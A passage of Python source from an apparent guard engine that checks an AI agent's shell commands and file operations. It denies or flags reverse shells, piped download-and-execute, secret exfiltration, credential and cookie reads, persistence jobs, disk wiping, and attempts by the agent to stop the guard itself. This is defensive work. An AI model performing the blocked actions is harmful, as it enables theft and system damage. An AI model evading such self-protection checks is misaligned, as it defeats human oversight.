        `cat` will, through it. With no pattern (the whole tree, read through its links), only
        the links that lead out of the tree are kept: the tree's own files are read anyway
        (`node_modules/.bin/*` point into it). A tree larger than the bound is walked only
        that far; the flag says whether the walk saw every link it looks for."""
        top = self._lexical(root, cwd)
        inside = os.path.realpath(top).rstrip("/") + "/" if not pattern else ""
        found: list[str] = []
        pending = [(top, root.rstrip("/"))]
        seen = links = 0
        while pending:
            directory, shown = pending.pop()
            try:
                with os.scandir(directory) as entries:
                    for entry in entries:
                        seen += 1
                        if seen > _MAX_WALK or len(found) >= _MAX_GLOB_VARIANTS:
                            return found, False
                        if entry.is_symlink():
                            links += 1
                            if inside and links > _MAX_LINKS_RESOLVED:
                                return found, False
                            if inside and os.path.realpath(entry.path).startswith(inside):
                                continue
                            if fnmatch.fnmatchcase(entry.name, pattern or "*"):
                                found.append(f"{shown}/{entry.name}")
                        elif entry.name != ".git" and entry.is_dir(follow_symlinks=False):
                            pending.append((entry.path, f"{shown}/{entry.name}"))
            except (OSError, ValueError):
                continue
        return found, True

    def _resolver(self, cwd: str | None) -> PathResolver:
        key = cwd or ""
        found = self._resolvers.get(key)
        if found is None:
            base = self._abs_cwd(cwd) if cwd else self._cwd
            if len(self._resolvers) >= 64:
                self._resolvers.clear()
            found = PathResolver(
                self._workspace, home=self._home, cwd=base, env=self._env, dir_cache=True
            )
            self._resolvers[key] = found
        return found

    def _credential_host(self, fact: CommandFact, sent: list[Operation], run: _Run) -> None:
        """Ask when a variable named for a provider (`$GITHUB_TOKEN`) goes to a public host
        outside that provider's domains, even in a credential slot (see `tokenhosts`). `sent`
        holds one network operation per host the command contacts."""
        text = " ".join(fact.argv)
        if self._env_secrets:
            text = _unexpand(text, self._env_secrets)  # a known value is followed by name
        if "$" not in text:
            return
        relays = relay_hosts(fact.argv, fact.env)
        if relays:  # `--resolve`, `--connect-to`, a proxy: they read the request too
            relay = Operation(OpKind.NETWORK, hosts=relays, command=sent[0].command)
            sent = [*sent, relay]
        for name in variable_names(text):
            provider = provider_of(name)
            if provider is None or not is_secret_name(name):
                continue
            for op in sent:
                foreign = foreign_hosts(provider, op.hosts, self._env)
                if foreign:
                    what = f"${name} (a {provider.name} credential) goes to {foreign[0]}"
                    run.ask("approval:credential-host", f"`{_short(fact.text)}`: {what}", op)
                    return

    def _lexical(self, word: str, cwd: str | None) -> str:
        """The absolute lexical form of a path word (`~` expanded, relative to `cwd`), for a
        cheap look-up in the rule index before anything touches the disk."""
        text = self._home + word[1:] if word.startswith("~") else word
        if text.startswith("/"):
            return lexical_clean(text)
        return lexical_clean((self._abs_cwd(cwd) if cwd else self._cwd) + "/" + text)

    def _abs_cwd(self, cwd: str) -> str:
        """A call's working directory as the tool will use it: `~`, `$HOME` and known
        variables expanded (the agent's shell expands them before it changes directory), a
        relative one taken from the engine's cwd, `..` collapsed."""
        if os.path.isabs(cwd):
            return cwd
        return self._resolver(None).resolve(cwd).lexical

    def _resolve(self, path: str, cwd: str | None, *, literal: bool = False) -> ResolvedPath:
        key = (cwd or "", path, literal)
        found = self._path_cache.get(key)
        if found is None:
            if len(self._path_cache) >= _MAX_CACHE:
                self._path_cache.clear()
            found = self._resolver(cwd).resolve(path, literal_vars=literal)
            self._path_cache[key] = found
        return found

    # ------------------------------------------------------------------ shell commands

    def _analysis(self, command: str, cwd: str) -> ShellAnalysis:
        if len(command) > _MAX_CACHED_COMMAND:  # rare, and a cache of them would hold megabytes
            return analyze(command, env=self._env, home=self._home, cwd=cwd)
        key = (command, cwd)
        found = self._analyses.get(key)
        if found is None:
            if len(self._analyses) >= _MAX_CACHE:
                self._analyses.clear()
            found = analyze(command, env=self._env, home=self._home, cwd=cwd)
            self._analyses[key] = found
        return found

    def _command(self, op: Operation, run: _Run) -> None:
        command = op.command or ""
        norm = _normalized(command, percent=False)
        if norm.signals & _HIDING:
            hidden = ", ".join(sorted(s.value for s in norm.signals & _HIDING))
            raise run.deny("builtin:shell-evasion", f"command hides characters ({hidden})", op)
        cwd = self._cwd
        if op.cwd:
            cwd = self._abs_cwd(op.cwd)
        texts = [command]
        if norm.normalized != command:
            texts.append(norm.normalized)
        for text in texts:
            analysis = self._analysis(text, cwd)
            scan = network_text(analysis)  # metadata addresses that are only data do not count
            run.texts.append(scan)
            if scan != text:
                run.marker_texts.append(text)
            self._shell(analysis, op, run)

    def _shell(self, analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
        shown = _short(analysis.command)
        if run.want_flow:
            self._shell_flow(analysis, run)
        signals = analysis.signals
        if not signals.isdisjoint(_REMOTE_SHELL):
            why = _finding(analysis, ShellSignal.REVERSE_SHELL, "it opens a remote shell")
            raise run.deny("builtin:reverse-shell", f"`{shown}`: {why}", op)
        if ShellSignal.DECODE_TO_INTERPRETER in signals:
            raise run.deny(
                "builtin:decode-and-execute", f"`{shown}` runs decoded text in an interpreter", op
            )
        if ShellSignal.DOWNLOAD_TO_INTERPRETER in signals:
            raise run.deny(
                "builtin:download-and-execute",
                f"`{shown}` pipes a download into an interpreter",
                op,
            )
        if ShellSignal.SECRET_EXFILTRATION in signals and not _secrets_to_their_own_hosts(analysis):
            why = _finding(
                analysis,
                ShellSignal.SECRET_EXFILTRATION,
                "it sends a secret environment variable's value",
            )
            raise run.deny("builtin:exfiltration", f"`{shown}`: {why}", op)
        # Typed prose (computer use) often looks odd as shell: `ok?` is a glob command name,
        # `don't` an open quote. Its concrete effects (paths, hosts, the signals above) count.
        typed = op.kind is OpKind.TYPE
        evasive = signals & _EVASION
        if evasive and not typed:
            why = ", ".join(sorted(s.value for s in evasive))
            raise run.deny("builtin:shell-evasion", f"`{shown}` ({why})", op)
        for name, value in analysis.env_assignments:
            cwds = _assignment_cwds(analysis, name, value, op.cwd)
            self._check_env_name(name, f"`{shown}` sets {name}", run, op, value, cwds=cwds)
        for chmod in analysis.chmods:
            if chmod.world_writable or chmod.setuid or chmod.setgid:
                what = "world-writable" if chmod.world_writable else "setuid/setgid"
                raise run.deny(
                    "builtin:risky-chmod", f"`chmod {chmod.mode} {chmod.path}` is {what}", op
                )
        self._self_protect_processes(analysis, op, run)
        run.one_command = len(analysis.commands) <= 1
        skip_git_config: set[int] = set()
        command_text = analysis.command
        for index, fact in enumerate(analysis.commands):
            # DLP reads the words as the program receives them, joined, so quoting that splits
            # a program's name or a token (`c''url -u a:pw`, `ghp_x\\Mrest`) hides nothing.
            joined = " ".join(fact.argv)
            if joined not in command_text:
                run.words.append(joined)
            self._fact(fact, op, run, shown)
            if fact.name == "git" and self._git_config(fact, op, run):
                skip_git_config.add(index)
        self._shell_paths(analysis, op, run, skip_git_config)
        if analysis.written and not run.in_script:
            for path, text in analysis.written:
                written = Operation(
                    OpKind.WRITE, paths=(path,), content=text, command=op.command, cwd=op.cwd
                )
                self._written_scripts(written, run)
        self._exfiltration(analysis, op, run)
        self._stdin_upload(analysis, op, run)
        self._substituted_upload(analysis, op, run)
        if ShellSignal.UNSEEN_TRANSFER in signals:
            why = _finding(analysis, ShellSignal.UNSEEN_TRANSFER, "")
            run.ask("builtin:upload-file", f"`{shown}`: {why}; it can send any file", op)
        if ShellSignal.REMOTE_PACKAGE in signals:
            why = _finding(analysis, ShellSignal.REMOTE_PACKAGE, "")
            run.ask("builtin:install-from-address", f"`{shown}`: {why}", op)
        self._client_config(analysis, op, run)
        unclear = signals & _UNCLEAR
        if (unclear or not analysis.parsed_ok) and not typed:
            why = ", ".join(sorted(s.value for s in unclear)) or "parse failure"
            detail = next((f.reason for f in analysis.findings if f.signal in unclear), "")
            if detail:
                why = f"{why}: {detail}"
            run.ask("builtin:unparsed-command", f"`{shown}` ({why})", op)

    def _shell_paths(
        self, analysis: ShellAnalysis, op: Operation, run: _Run, skip_git: set[int]
    ) -> None:
        seen: set[tuple[ShellOp, str]] = set()
        single = run.one_command
        for index, fact in enumerate(analysis.commands):
            command = fact.text or analysis.command
            # A glob is matched against the names present only where nothing on the line can
            # have made one first: a line of one command, or its first command when it ends
            # before the next starts (`sed -i ... src/*.json && git diff`; not `... | cmd`,
            # whose commands run side by side).
            run.one_command = single or (index == 0 and _runs_alone_first(fact, analysis.command))
            find_exec = fact.name == "find" and any(a in _FIND_EXEC for a in fact.argv)
            targets: set[str] = set()
            for sop in fact.operations:
                targets.add(sop.target)
                seen.add((sop.kind, sop.target))
                if index in skip_git and sop.detail.startswith("git config"):
                    continue
                self._shell_path(
                    sop.kind,
                    sop.target,
                    op,
                    run,
                    source=f"{op.source}: {fact.name} ({sop.detail or sop.kind.value})",
                    command=command,
                    listing=sop.kind is ShellOp.LIST and not find_exec,
                    recursive=sop.kind is ShellOp.DELETE and _is_recursive(fact),
                )
            for redirect in fact.redirects:
                targets.add(redirect.target)
            self._bulk_writes(fact, op, run)
            self._mentions(fact, targets, command, op, run)
            sent: list[Operation] = []
            for target in fact.network:
                if target.host is not None:
                    derived = Operation(
                        OpKind.NETWORK,
                        hosts=(target.host,),
                        urls=(target.url,) if target.url else (),
                        command=command,
                        source=f"{op.source}: {fact.name}",
                    )
                    run.ops.append(derived)
                    self._check_host(target.host, derived, run)
                    sent.append(derived)
                if target.url:
                    run.texts.append(_norm_text(target.url))
            if sent:
                self._credential_host(fact, sent, run)
        run.one_command = single
        for sop in analysis.operations:  # effects of compound commands (`done < file`)
            if (sop.kind, sop.target) not in seen:
                seen.add((sop.kind, sop.target))
                self._shell_path(
                    sop.kind,
                    sop.target,
                    op,
                    run,
                    source=f"{op.source}: {sop.detail}",
                    command=analysis.command,
                )
        for target in analysis.network:
            if target.host is not None:
                self._check_host(target.host, op, run)

    def _copied_trees(self, fact: CommandFact, op: Operation, run: _Run) -> None:
        """A recursive copy writes every file of its source tree below its destination
        (`cp -r /tmp/x/.claude .`, `rsync -a /tmp/x/ ./`): each is judged as a write of its own
        where the source can be walked (breadth-first, no link followed, at most
        `_MAX_HELD_WALK` entries); where it cannot (it does not exist yet), a destination
        directory that holds the agent's configuration is asked about, as the copy may
        replace it."""
        sources = [s.target for s in fact.operations if s.kind is ShellOp.READ]
        writes = [s.target for s in fact.operations if s.kind is ShellOp.WRITE]
        # `cp -r SRC DEST` into a directory that exists writes `DEST/basename(SRC)` (reported
        # as well), not DEST's own files: such a DEST is only the place the copy lands in.
        landed_in = {
            os.path.dirname(w.rstrip("/")) for w in writes if os.path.dirname(w.rstrip("/"))
        }
        writes = [
            w
            for w in writes
            if w.rstrip("/") not in landed_in or not os.path.isdir(self._lexical(w, op.cwd))
        ]
        walked: list[str] = []
        for source in sources[:_MAX_COPY_SOURCES]:
            top = self._lexical(source, op.cwd)
            if not os.path.isdir(top) or os.path.islink(top):
                continue
            walked.extend(rel for _, rel, _ in _walk_tree(top))
            if len(walked) >= _MAX_HELD_WALK:
                break
        excluded = _rsync_excludes(fact.argv) if fact.name == "rsync" else ()
        if excluded:
            walked = [n for n in walked if not _excluded(n, excluded)]
        for write in writes[:_MAX_COPY_SOURCES]:
            dest = self._lexical(write, op.cwd)
            if self._temp_dest(dest):
                continue  # a copy into a temporary directory plants nothing anything loads
            if not walked:
                self._check_held(dest, OpKind.WRITE, op, run, ask="if the copied tree holds it")
                continue
            for name in walked:
                form = f"{dest.rstrip('/')}/{name}"
                what = f"`{_short(fact.text)}` copies a tree that writes {form}"
                if self._judge_written(form, what, op, run):
                    return

    def _bulk_writes(self, fact: CommandFact, op: Operation, run: _Run) -> None:
        """Commands that write files the line does not name: a copied tree, a directory
        restored from a revision, the files a patch names, an extracted archive."""
        writes = {s.detail for s in fact.operations if s.kind is ShellOp.WRITE}
        if not writes:
            return
        if (fact.name in _TREE_COPIERS and _copies_trees(fact)) or CONTAINER_COPY in writes:
            self._copied_trees(fact, op, run)
        elif fact.code is not None and self._copies_a_directory(fact, op):
            self._copied_trees(fact, op, run)  # `shutil.copytree`, `fs.cpSync`
        if not writes.isdisjoint(_GIT_RESTORES):
            self._restored_trees(fact, op, run)
        if not writes.isdisjoint(_PATCHERS):
            self._patched_files(fact, op, run)
        if not writes.isdisjoint(_EXTRACTORS):
            self._extracted_files(fact, op, run)

    def _copies_a_directory(self, fact: CommandFact, op: Operation) -> bool:
        """Whether interpreter code reads a directory and writes to a directory (or a path
        not there yet): a tree copy (`shutil.copytree(SRC, DST)`), judged as `cp -r` is."""
        reads = writes = False
        for sop in fact.operations:
            if sop.kind is ShellOp.READ and not reads:
                reads = os.path.isdir(self._lexical(sop.target, op.cwd))
            elif sop.kind is ShellOp.WRITE and not writes:
                path = self._lexical(sop.target, op.cwd)
                writes = os.path.isdir(path) or not os.path.lexists(path)
        return reads and writes

    def _judge_written(self, form: str, what: str, op: Operation, run: _Run) -> bool:
        """Judge one file a bulk write (a copied tree, an extracted archive) puts at `form`
        by the rules for writing it: True when one covers it (the call is then asked; a
        denial is raised)."""
        found = self._index.match(form, OpKind.WRITE)
        if found is None:
            if self._in_crustcore_home(form):
                raise run.deny("builtin:self-protection", what, op)
            return False
        if found.verdict is Verdict.DENY:
            raise run.deny(found.name, what, op)
        run.ask(found.name, what, op)
        return True

    def _restored_trees(self, fact: CommandFact, op: Operation, run: _Run) -> None:
        """`git checkout REV -- DIR`, `git restore --source REV DIR`: every tracked file
        below DIR becomes the revision's, which this check cannot read; a DIR holding the
        agent's configuration is asked about. (The whole work tree, a switch of branches,
        is not: each branch carries its own configuration.)"""
        base = self._abs_cwd(op.cwd) if op.cwd else self._cwd
        for sop in fact.operations:
            if sop.kind is not ShellOp.WRITE or sop.detail not in _GIT_RESTORES:
                continue
            top = self._lexical(sop.target, op.cwd)
            if top == base or not os.path.isdir(top):
                continue
            self._check_held(top, OpKind.WRITE, op, run, ask="as the revision has it")

    def _patched_files(self, fact: CommandFact, op: Operation, run: _Run) -> None:
        """`git apply FILE`, `git am FILE`, `patch < FILE`: the files a patch names are
        written, and the patch is there to read. Each name (and the name with its first part
        dropped, as `-p1` does) is judged as a write in the directory the patch is applied
        in. Only a regular file of at most `_MAX_PATCH_FILE` bytes that no rule protects is
        read; anything else leaves the write of that directory as the analyser reported it."""
        here = next(
            (
                s.target
                for s in fact.operations
                if s.kind is ShellOp.WRITE and s.detail in _PATCHERS
            ),
            ".",
        )
        files = [s.target for s in fact.operations if s.kind is ShellOp.READ]
        files += [r.target for r in fact.redirects if r.kind is ShellOp.READ]
        names: list[str] = []
        for name in files[:_MAX_COPY_SOURCES]:
            text = self._patch_file(self._lexical(name, op.cwd))
            if text is None:
                continue
            for target in diff_targets(text):
                names.append(target)
                head, slash, rest = target.partition("/")
                if slash and rest and head not in ("", ".", ".."):
                    names.append(rest)
        base = self._lexical(here, op.cwd)
        for name in dict.fromkeys(names[:_MAX_PATCHED]):
            path = name if name.startswith("/") else f"{base.rstrip('/')}/{name}"
            derived = Operation(
                OpKind.WRITE,
                paths=(path,),
                command=fact.text,
                source=f"{op.source}: {fact.name} (a file the patch names)",
                cwd=op.cwd,
            )
            run.ops.append(derived)
            self._add_path(OpKind.WRITE, path, derived, run)

    def _extracted_files(self, fact: CommandFact, op: Operation, run: _Run) -> None:
        """`tar xf ARCHIVE`, `unzip ARCHIVE`: every member is written below the destination.
        Where the archive can be listed cheaply (a zip's directory, an uncompressed tar's
        headers, a small compressed tar), each member is judged as a write of its own, and a
        member that is a link (which later members can be written through) is asked about;
        where it cannot (it is large, or fetched on the same line), a destination holding
        the agent's configuration is asked about."""
        dests = [
            s.target for s in fact.operations if s.kind is ShellOp.WRITE and s.detail in _EXTRACTORS
        ]
        archives = [s.target for s in fact.operations if s.kind is ShellOp.READ]
        listed: list[str] = []
        links = False
        unknown = not archives
        for archive in archives[:_MAX_COPY_SOURCES]:
            members = self._archive_members(self._lexical(archive, op.cwd))
            if members is None:
                unknown = True
                continue
            names, linked = members
            listed.extend(names)
            links = links or linked
        for dest in dests[:_MAX_COPY_SOURCES]:
            top = self._lexical(dest, op.cwd)
            if self._temp_dest(top):
                continue
            if unknown:
                self._check_held(top, OpKind.WRITE, op, run, ask="if the archive holds it")
            for name in listed:
                form = lexical_clean(f"{top}/{name}")
                if self._judge_written(form, f"`{_short(fact.text)}` extracts {form}", op, run):
                    return
                if not is_within(form, top):
                    # `../x`, `/x`: a member that leaves the destination is judged in full
                    derived = Operation(OpKind.WRITE, paths=(form,), command=fact.text,
                                        source=f"{op.source}: {fact.name} (archive member)",
                                        cwd=op.cwd)  # fmt: skip
                    run.ops.append(derived)
                    self._add_path(OpKind.WRITE, form, derived, run)
            if links:
                ask = "through a link the archive holds"
                self._check_held(top, OpKind.WRITE, op, run, ask=ask)

    def _archive_members(self, path: str) -> tuple[list[str], bool] | None:
        """The member names of an archive the engine may list cheaply, and whether any member
        is a link; None when it cannot (missing, protected, too large, unreadable)."""
        info = self._input_file(path)
        if info is None:
            return None
        import tarfile  # only extractions pay for these modules
        import zipfile

        try:
            if zipfile.is_zipfile(path):
                if info.st_size > _MAX_ARCHIVE:
                    return None
                with zipfile.ZipFile(path) as archive:
                    entries = archive.infolist()[:_MAX_HELD_WALK]
                linked = any(stat.S_ISLNK(e.external_attr >> 16) for e in entries)
                return [e.filename for e in entries], linked
            with open(path, "rb") as handle:
                magic = handle.read(6)
            compressed = magic[:2] == b"\x1f\x8b" or magic[:3] == b"BZh" or magic == b"\xfd7zXZ\x00"
            if info.st_size > (_MAX_COMPRESSED_ARCHIVE if compressed else _MAX_ARCHIVE):
                return None
            names: list[str] = []
            linked = False
            with tarfile.open(path, "r:*") as archive:
                for member in archive:
                    names.append(member.name)
                    linked = linked or member.issym() or member.islnk()
                    if len(names) >= _MAX_HELD_WALK:
                        break
            return names, linked
        except (OSError, ValueError, EOFError, tarfile.TarError, zipfile.BadZipFile):
            return None

    def _input_file(self, path: str) -> os.stat_result | None:
        """The status of a file the engine may read to see what a command does with it (a
        patch, an archive): a regular file no rule protects and not in CrustCore's home, so
        no protected file's text is ever parsed; else None."""
        if self._index.match(path, OpKind.READ) is not None or self._in_crustcore_home(path):
            return None
        try:
            info = os.stat(path)
        except (OSError, ValueError):
            return None
        return info if stat.S_ISREG(info.st_mode) else None

    def _patch_file(self, path: str) -> str | None:
        """The text of a patch file the engine may read, or None."""
        info = self._input_file(path)
        if info is None or info.st_size > _MAX_PATCH_FILE:
            return None
        try:
            with open(path, "rb") as handle:
                return handle.read(_MAX_PATCH_FILE).decode("utf-8", "replace")
        except (OSError, ValueError):
            return None

    def _temp_dest(self, dest: str) -> bool:
        """Whether `dest` lies in a temporary directory (and not in the workspace or the home
        directory, which may themselves be in one)."""
        if is_within(dest, self._workspace) or is_within(dest, self._home):
            return False
        return any(is_within(dest, t) for t in self._temp_roots)

    def _shell_path(
        self,
        skind: ShellOp,
        target: str,
        op: Operation,
        run: _Run,
        *,
        source: str,
        command: str,
        listing: bool = False,
        recursive: bool = False,
    ) -> None:
        kind = _SHELL_TO_OP.get(skind)
        if kind is None:
            return
        derived = Operation(kind, paths=(target,), command=command, source=source, cwd=op.cwd)
        run.ops.append(derived)
        self._add_path(kind, target, derived, run, listing=listing, recursive=recursive)

    def _mentions(
        self, fact: CommandFact, targets: set[str], command: str, op: Operation, run: _Run
    ) -> None:
        """Path-like arguments the analyser did not classify (a program it does not know, such
        as `sqlite3 ~/.config/google-chrome/.../Cookies`) are checked against the builtin
        path rules as reads: naming a protected file to any program is reading it."""
        if fact.name in _INERT_PROGRAMS:
            return
        base = self._abs_cwd(op.cwd) if op.cwd else self._cwd
        here = fact.cwd
        # After a `cd` the line pinned down, a bare name is a file in that directory: `cd
        # ~/.aws && tool credentials` names ~/.aws/credentials as surely as a path would.
        # In the directory the call started in, bare words stay words (`make test`).
        moved = (
            here is not None
            and "$" not in here
            and "`" not in here
            and lexical_clean(here) != lexical_clean(base)
        )
        known = {lexical_clean(t) for t in targets if t.startswith("/")}
        fetchable: bool | None = None
        previous = ""
        patterns = (
            search_patterns(fact.name, list(fact.argv[1:]))
            if fact.name in SEARCH_PROGRAMS
            else frozenset[str]()
        )
        for arg in fact.argv[1:]:
            after_output_flag = previous.startswith("-") and (
                "out" in previous.lower() or previous in ("-o", "-O")
            )
            previous = arg
            if not arg or arg in patterns:
                continue  # `grep -rn "~/.ssh" src/`: the text searched for, not a file read
            kind = OpKind.READ
            value = arg
            if after_output_flag:
                if "=" in arg:
                    continue  # `ssh -o Key=value`: an option setting, not a file
                kind = OpKind.WRITE  # `-o FILE`, `--output FILE`, `-keyout FILE`: written
            elif arg.startswith("-"):
                # `--config=~/.aws/credentials` names the file as well as `--config FILE` does
                option, eq, value = arg.partition("=")
                if not eq or not value:
                    continue  # a flag
                if "out" in option.lower():
                    kind = OpKind.WRITE  # `--output=FILE`
            if "://" in value or value[:5].lower() == "file:":
                # `file:///home/u/.netrc`, the AWS CLI's `fileb://~/.ssh/id_rsa`: a local file;
                # any other URL names a host, which the network checks judge. A URL given to
                # a program that is not data-only (`lynx`, a tool the analyser does not know)
                # may be fetched, so its scheme and host are checked like a client's.
                if fetchable is None:
                    fetchable = not is_data_only(fact)
                if fetchable:
                    run.texts.append(_norm_text(value))
                words = list(file_url_paths(value))
            elif fact.name in _REMOTE_COPY and remote_path(value) is not None:
                continue  # `host:/home/`: a path on the other machine, not a local read
            else:
                # `gcc @FILE`, `javac @FILE`: the arguments are read from FILE
                words = [value[1:], value] if value.startswith("@") else [value]
                if ":" in value:  # `HEAD:.env`, `src:dst` volume specs, `host:path`
                    words.extend(part for part in value.split(":") if part)
            for named in words:
                bare = not ("/" in named or named.startswith((".", "~")))
                if named in targets or len(named) > 4096 or (bare and not moved):
                    continue
                word = named
                if not named.startswith(("/", "~")):
                    # Where the command runs: `cd ~ && tool .netrc`, `git -C ~ add .netrc`
                    word = named if here is None else here.rstrip("/") + "/" + named
                    full = word if word.startswith("/") else base + "/" + word
                    clean = lexical_clean(full)
                    if word in targets or clean in known:
                        continue
                    if kind is OpKind.READ and bare and _missing(clean, named):
                        continue  # a bare word after `cd` that names no file is a word
                if self._worth_resolving(word, op.cwd, kind):
                    derived = Operation(
                        kind,
                        paths=(word,),
                        command=command,
                        source=f"{op.source}: {fact.name} argument",
                        cwd=op.cwd,
                    )
                    self._add_path(kind, word, derived, run, mention=True)

    def _worth_resolving(self, word: str, cwd: str | None, kind: OpKind = OpKind.READ) -> bool:
        """A mention is resolved on disk only when its lexical form already names a protected
        path or CrustCore's home, or when it exists (it may be a symlink to one); words such as
        `s/old/new/g` that name nothing are skipped cheaply."""
        if "$" in word or "`" in word:
            return True  # a part that cannot be pinned down: judged where it may lead
        lexical = self._lexical(word, cwd)
        if self._index.match(lexical, kind) is not None:
            return True
        if self._in_crustcore_home(lexical):
            return True
        if not word.isascii():
            return True
        try:
            return os.path.lexists(lexical)
        except (OSError, ValueError):
            return True

    def _fact(self, fact: CommandFact, op: Operation, run: _Run, shown: str) -> None:
        """Per-command checks: persistence installers, privilege, reversibility."""
        name = fact.name.lower()
        args = [a.lower() for a in fact.argv[1:]]
        for env_name, env_value in fact.env:
            self._check_env_name(
                env_name,
                f"`{shown}` sets {env_name}",
                run,
                op,
                env_value,
                cwds=(fact.cwd or op.cwd,),
            )
        if name in ("setcap", "setfacl") or (name == "umask" and args and args[0] in _ZERO_UMASK):
            raise run.deny("builtin:risky-chmod", f"`{shown}` changes permissions broadly", op)
        if name in ("ec2-metadata", "ec2metadata", "oci-metadata"):
            raise run.deny("builtin:metadata-endpoint", f"`{shown}` queries instance metadata", op)
        if _prints_credentials(name, args):
            raise run.deny("builtin:credential-commands", f"`{shown}`", op)
        if _installs_persistence(name, args):
            raise run.deny(
                "builtin:persistence", f"`{shown}` installs a scheduled job or service", op
            )
        if name in ("mkfs", "wipefs", "fdisk", "parted", "sfdisk") or name.startswith("mkfs."):
            raise run.deny("builtin:system-write", f"`{shown}` formats a disk", op)
        if name == "dd" and any(a.startswith("of=/dev/") and a not in _DD_OK for a in args):
            raise run.deny("builtin:system-write", f"`{shown}` writes a raw device", op)
        if fact.privileged:
            run.ask("builtin:privileged-command", f"`{shown}`", op)
        host_access = _host_access(name, args)
        if host_access:
            run.ask("builtin:privileged-command", f"`{shown}` {host_access}", op)
        if name in ("docker", "podman"):
            daemon = _daemon_option(args)
            if daemon:
                run.ask(
                    "builtin:upload-file",
                    f"`{shown}` talks to the daemon at {daemon}, which receives build contexts "
                    "and mounted files",
                    op,
                )
        approval = _reversibility(name, args, fact)
        if approval is not None:
            run.ask(approval, f"`{shown}`", op)
        if name in CONTAINER_TOOLS:
            script = container_script(fact.argv)
            if script is not None:
                self._container(script, op, run, shown)

    def _container(self, command: str, op: Operation, run: _Run, shown: str) -> None:
        """What a container's command does that does not depend on whose filesystem it runs
        in (its paths are the container's; see `containers`): a remote shell, a download or
        decoded text run by an interpreter, a secret sent out, a metadata endpoint."""
        analysis = self._analysis(command, self._cwd)
        signals = analysis.signals
        inside = f"`{shown}` runs `{_short(command, 80)}` in a container"
        if not signals.isdisjoint(_REMOTE_SHELL):
            why = _finding(analysis, ShellSignal.REVERSE_SHELL, "it opens a remote shell")
            raise run.deny("builtin:reverse-shell", f"{inside}: {why}", op)
        if ShellSignal.DECODE_TO_INTERPRETER in signals:
            raise run.deny("builtin:decode-and-execute", f"{inside} that runs decoded text", op)
        if ShellSignal.DOWNLOAD_TO_INTERPRETER in signals:
            raise run.deny("builtin:download-and-execute", f"{inside} that runs a download", op)
        if ShellSignal.SECRET_EXFILTRATION in signals:
            why = _finding(analysis, ShellSignal.SECRET_EXFILTRATION, "it sends a secret")
            raise run.deny("builtin:exfiltration", f"{inside}: {why}", op)
        senders = any(_sends(f) for f in analysis.commands)
        for fact in analysis.commands:
            if senders and _reads_environ(fact):
                raise run.deny(
                    "builtin:exfiltration", f"{inside} that sends a process's environment", op
                )
            for target in fact.network:
                if target.host is not None:
                    derived = Operation(
                        OpKind.NETWORK, hosts=(target.host,), command=command, source=op.source
                    )
                    self._check_host(target.host, derived, run)

    def _git_config(self, fact: CommandFact, op: Operation, run: _Run) -> bool:
        """Check `git config` and `git -c` keys. Returns True when this git command's own
        writes to a git config file are harmless (a safe key), so the path rule is skipped."""
        argv = list(fact.argv[1:])
        sub: str | None = None
        sub_at = len(argv)
        index = 0
        while index < len(argv):
            arg = argv[index]
            value: str | None = None
            # `--config-env=KEY=VAR` takes the value from the environment: the program it
            # names never shows on the line, so no one-shot pager is let through.
            hidden = arg.startswith("--config-env") and sub is None
            if arg in ("-c", "--config", "--config-env") and index + 1 < len(argv):
                value = argv[index + 1]
                index += 1
            elif arg.startswith(("--config=", "--config-env=")):
                value = arg.split("=", 1)[1]
            elif arg.startswith("-c") and len(arg) > 2 and sub is None:
                value = arg[2:]
            elif arg in ("-C", "--git-dir", "--work-tree", "--namespace") and sub is None:
                index += 1
            elif sub is None and not arg.startswith("-"):
                sub, sub_at = arg, index
            if value is not None:
                key = value.split("=", 1)[0]
                if _git_key_dangerous(key) and (hidden or not _git_one_shot_program(key)):
                    raise run.deny(
                        "builtin:git-hooks-and-config", f"git sets {key} (runs a program)", op
                    )
            index += 1
        if sub != "config":
            return False
        rest = argv[sub_at + 1 :]
        if any(a in _GIT_READ_FLAGS for a in rest) or (rest and rest[0] in ("get", "list")):
            return True
        cfg_key: str | None = None
        skip_next = False
        for arg in rest:
            if skip_next:
                skip_next = False
                continue
            if arg in ("--file", "-f", "--blob", "--type", "--default", "--comment"):
                skip_next = True
                continue
            if arg.startswith("-") or arg in _GIT_VERBS:
                continue
            cfg_key = arg
            break
        if cfg_key is None:
            return "--edit" not in rest and "-e" not in rest and "edit" not in rest
        if _git_key_dangerous(cfg_key):
            raise run.deny("builtin:git-hooks-and-config", f"git config sets {cfg_key}", op)
        return True

    def _self_protect_processes(self, analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
        names = {f.name.lower() for f in analysis.commands}
        mentions = "crustcore" in normalize_text(analysis.command).lower()
        for fact in analysis.commands:
            if fact.code is not None and _drives_the_kernel(fact.code.code):
                raise run.deny(
                    "builtin:self-protection",
                    f"`{_short(fact.text)}` runs code that drives CrustCore's kernel client",
                    op,
                )
            cli = _crustcore_cli(fact.argv)
            if cli is not None:
                sub = next((a for a in cli if not a.startswith("-")), "")
                flags = [a for a in cli if a.startswith("-")]
                if sub not in _CRUSTCORE_SAFE_SUBCOMMANDS and not (
                    not sub and set(flags) <= _CRUSTCORE_SAFE_SUBCOMMANDS
                ):
                    raise run.deny(
                        "builtin:self-protection", f"agents may not run `crustcore {sub}`", op
                    )
        if mentions and (names & _SIGNALLERS or names & _SERVICE_TOOLS):
            raise run.deny(
                "builtin:self-protection",
                f"`{_short(analysis.command)}` signals or stops CrustCore processes",
                op,
            )

    def _exfiltration(self, analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
        for fact in analysis.commands:
            if fact.name != "git" or any(provider_of(n) for n in variable_names(fact.text)):
                continue  # a provider's token in the URL: `approval:credential-host` judges it
            sent = _git_destination([a.lower() for a in fact.argv[1:]])
            if sent:
                run.ask("builtin:upload-file", f"`{_short(fact.text)}` {sent}", op)
        senders = [f for f in analysis.commands if _sends(f)]
        code_net = [f for f in analysis.commands if f.code is not None and f.code.network]
        if not senders and not code_net:
            return
        shown = _short(analysis.command)
        for fact in analysis.commands:
            if senders and (_dumps_env(fact.argv) or _dumps_env(container_command(fact.argv))):
                raise run.deny("builtin:exfiltration", f"`{shown}` sends the environment out", op)
            if fact.name in _INTERPRETERS and any(
                s.target.startswith("<(") for s in fact.operations
            ):
                raise run.deny(
                    "builtin:download-and-execute",
                    f"`{shown}` runs a download through process substitution",
                    op,
                )
        line_reads = [
            sop.target
            for f in analysis.commands
            for sop in f.operations
            if sop.kind is ShellOp.READ and f.name.lower() not in _SENDERS
        ]
        for fact in [*senders, *code_net]:
            targets = fact.network if fact in senders else (fact.code.network if fact.code else ())
